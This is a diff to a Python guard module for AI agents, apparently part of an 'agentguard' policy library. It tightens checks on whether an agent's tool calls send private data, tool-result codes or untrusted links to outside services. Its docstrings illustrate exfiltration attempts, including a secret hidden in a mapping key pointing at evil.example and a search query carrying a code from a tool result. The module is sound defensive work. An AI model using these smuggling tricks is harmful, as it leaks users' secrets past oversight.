@@ -51,7 +51,7 @@ from dataclasses import dataclass, field
 from typing import Any, Iterator, Mapping
 
 from .capabilities import Grant, GrantLexicon, mint, strip_quotes
-from .links import links
+from .links import links, local_path
 from .provenance import _EMAIL, _IBAN, canonical, dates, entities, word_form
 from .toolset import ToolDecl, ToolSet
 
@@ -60,9 +60,6 @@ __all__ = ["Facts", "FlowLedger", "SHINGLE", "times"]
 SHINGLE = 8   # consecutive words of third-party text that count as forwarding it
 _TIME = re.compile(r"\b(\d{1,2})(?::(\d{2}))?\s*(a\.?m\.?|p\.?m\.?)(?!\w)|\b(\d{1,2}):(\d{2})\b", re.I)
 _FILE_ROLES = frozenset({"file", "filename"})   # values are file names: "notes.md" parses as a host
-# a file-role value that still names a network location: a scheme, a network-path or UNC prefix, www., a query, an IP
-_NETWORK_PATH = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*://|//|\\\\|www\.)|\?|\b\d{1,3}(?:\.\d{1,3}){3}\b|\[[0-9a-f:]+\]",
-                           re.IGNORECASE)
 _KIND_CODE = {"read": 0, "fetch": 1, "write": 2, "send": 3, "account": 4, "delete": 5}
 
 
@@ -88,6 +85,22 @@ def _leaves(value: Any) -> Iterator[str]:
     elif isinstance(value, (list, tuple, set, frozenset)):
         for v in value:
             yield from _leaves(v)
+    elif value is not None and not isinstance(value, bool):
+        yield str(value)
+
+
+def _arg_leaves(value: Any) -> Iterator[str]:
+    """Every scalar of a call's argument, mapping keys included: the receiving system reads a key it is sent
+    (``options={"https://evil.example/?k=<secret>": 1}`` carries the link)."""
+    if hasattr(value, "model_dump"):
+        value = value.model_dump()
+    if isinstance(value, Mapping):
+        for k, v in value.items():
+            yield from _arg_leaves(k)
+            yield from _arg_leaves(v)
+    elif isinstance(value, (list, tuple, set, frozenset)):
+        for v in value:
+            yield from _arg_leaves(v)
     elif value is not None and not isinstance(value, bool):
         yield str(value)
 
@@ -147,6 +160,7 @@ class FlowLedger:
     _selectable: list[tuple[dict[str, Any], tuple[str, ...], str]] = field(default_factory=list)
     _pointed: dict[str, str] = field(default_factory=dict)   # link form -> the record the request names
     _named: dict[tuple[str, str], str] = field(default_factory=dict)   # trusted value -> the named record
+    _codes: set[str] = field(default_factory=set)   # words of tool results with 4+ digits (not dates)
     _cache: dict[str, Any] = field(default_factory=dict)
 
     # ------------------------------------------------------------------ observing
@@ -182,6 +196,9 @@ class FlowLedger:
         """Record one tool result, each field labelled by ``tool``'s declaration (see the module docstring)."""
         self.calls.append(tool)
         decl = self.toolset.decl(tool)
+        for s in _leaves(result):
+            self._codes |= {w for w in word_form(s).split() if len(re.findall(r"\d", w)) >= 4
+                            and canonical(w)[0] != "date" and not _TIME.fullmatch(w)}
         self._cache.pop("derived", None)
         recs = list(_records(result))
         if decl.whole and not recs:   # a bare value or list of values only: never a record's fields
@@ -262,8 +279,8 @@ class FlowLedger:
         kind, form = canonical(value)
         if not form:
             return False
-        if kind == "url":
-            return any(lk.site in self._user_sites for lk in links(value))
+        if kind == "url":   # every host in it (the one a client reaches included: links), not any one of them
+            return bool(lks := links(value)) and all(lk.site in self._user_sites for lk in lks)
         if kind != "text":
             return (kind, form) in self._user_ents or (kind == "date" and ("date", "*" + form[4:]) in self._user_ents)
         return f" {form} " in self._user_text
@@ -353,13 +370,19 @@ class FlowLedger:
                 continue
             return 0, f"link {lk.form!r} in outgoing content is not the user's (site {lk.site})"
         wf = f" {word_form(value)} "
-        for secret, (src, words) in self._private.items():
-            if f" {secret} " in wf and not any(f" {word_form(w)} " in f" {word_form(g.clause)} "
-                                               for g in grants for w in words):
-                return 0, f"private {src} sent without a request that names it ({' / '.join(words)})"
+        if (why := self._private_in(wf, [g.clause for g in grants])) is not None:
+            return 0, f"{why} sent without a request that names it"
         if target_level < 2 and _shingles(wf.split()) & self._tp_shingles:
             return 0, "forwards third-party text to a target the request does not name"
         return 2, "content checked"
+
+    def _private_in(self, wf: str, scopes: list[str]) -> str | None:
+        """The private value in word form ``wf`` that no sentence of ``scopes`` (the grants') names."""
+        scope_wf = [f" {word_form(c)} " for c in scopes]
+        for secret, (src, words) in self._private.items():
+            if f" {secret} " in wf and not any(f" {word_form(w)} " in c for c in scope_wf for w in words):
+                return f"private {src} ({' / '.join(words)})"
+        return None
 
     def users_words(self, text: str) -> bool:
         """Every word of ``text`` is a word of the request (a word with digits counts when its letters are at
@@ -375,18 +398,21 @@ class FlowLedger:
     # ------------------------------------------------------------------ the call
     def _read_links(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> tuple[int, str] | None:
         """The lowest trust of a link a read's arguments carry (the read is then a fetch of it), or ``None``
-        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): values
-        of file-name roles are skipped unless they read as a network address (a ``scheme://``, ``//`` or UNC
-        ``\\\\host`` prefix, ``www.``, a ``?`` query or an IP literal: ``download_file(source="https://...")``
-        is a fetch), and so are file names a trusted listing gave; any other file name that reads
-        as a host must be named by the user, else the read escalates (fail closed)."""
+        when they carry no link. File names are not links (``notes.md`` and ``app.py`` parse as hosts): a
+        value of a file-name role is skipped only while it is a local path by the allow-list grammar of
+        :func:`~agentguard.policies.links.local_path` (no scheme, ``//``, UNC, ``:``, ``?``, ``@``, ``%``, IP
+        literal, nor a first directory that is a host: ``download_file(source="https://...")``,
+        ``bank.com/pay/to/x`` are fetches); a ``query`` argument is skipped when it is such a local path
+        *and* a trusted listing gave it (``read_file(file_path="app.py")``); any other value that carries a
+        link must be the user's or trusted, else the read escalates (fail closed)."""
         worst: tuple[int, str] | None = None
         for arg, v in arguments.items():
-            file_role = decl.role(arg) in _FILE_ROLES
-            for s in _leaves(v):
-                if file_role and not _NETWORK_PATH.search(s):
+            role = decl.role(arg)
+            for s in _arg_leaves(v):
+                if role in _FILE_ROLES and local_path(s):
                     continue   # a local path or file name (``q3.md``), not a network address
-                if any(canonical(s) in self._trusted.get(r, {}) for r in _FILE_ROLES):
+                if role == "query" and local_path(s) and any(canonical(s) in self._trusted.get(r, {})
+                                                             for r in _FILE_ROLES):
                     continue   # a file name a trusted listing gave (``app.py`` from list_files)
                 for lk in links(s):
                     lv, w = self.target(lk.form, "url", True)
@@ -394,12 +420,32 @@ class FlowLedger:
                         worst = (lv, f"{arg}: a read carrying a link is a fetch: {w}")
         return worst
 
+    def _remote_leak(self, decl: ToolDecl, arguments: Mapping[str, Any]) -> str | None:
+        """Why a read of a service that is not the user's own store (an undeclared tool, or an inferred one
+        that is neither a store nor a listing) carries the user's data out, or ``None``: its arguments go to
+        that service, so a private value of the user (as for outgoing content) or a code or number of four
+        or more digits that a tool result wrote and the request did not (``search_web(query="463820")``)
+        needs the request to name it."""
+        if decl.declared and not decl.inferred or decl.inferred and (decl.results or decl.whole):
+            return None
+        for arg, v in arguments.items():
+            for s in _arg_leaves(v):
+                wf = f" {word_form(s)} "
+                if (why := self._private_in(wf, [self.prompt])) is not None:
+                    return f"{arg}: a read of a service that is not the user's carries {why}"
+                for w in wf.split():
+                    if w in self._codes and f" {w} " not in self._user_text:
+                        return f"{arg}: a read of a service that is not the user's carries {w!r} from a tool result"
+        return None
+
     def facts(self, tool: str, arguments: Mapping[str, Any]) -> Facts:
         """The verified policy's facts for a proposed call (see the module docstring)."""
         decl = self.toolset.decl(tool, arguments.keys())
         kind = _KIND_CODE[decl.kind]
         if decl.kind == "read":
             carried = self._read_links(decl, arguments)
+            if carried is None and (carried := self._remote_leak(decl, arguments)) is not None:
+                return Facts(_KIND_CODE["fetch"], 0, True, 2, "", carried)
             if carried is None:
                 return Facts(kind, 2, True, 2, "", "a read")
             return Facts(_KIND_CODE["fetch"], carried[0], True, 2, "", carried[1])
@@ -412,7 +458,7 @@ class FlowLedger:
         failed: set[str] = set()
         for arg, v in arguments.items():
             role = decl.role(arg)
-            for s in _leaves(v):
+            for s in _arg_leaves(v):
                 if not s.strip():
                     continue
                 if role in roles["content"]:
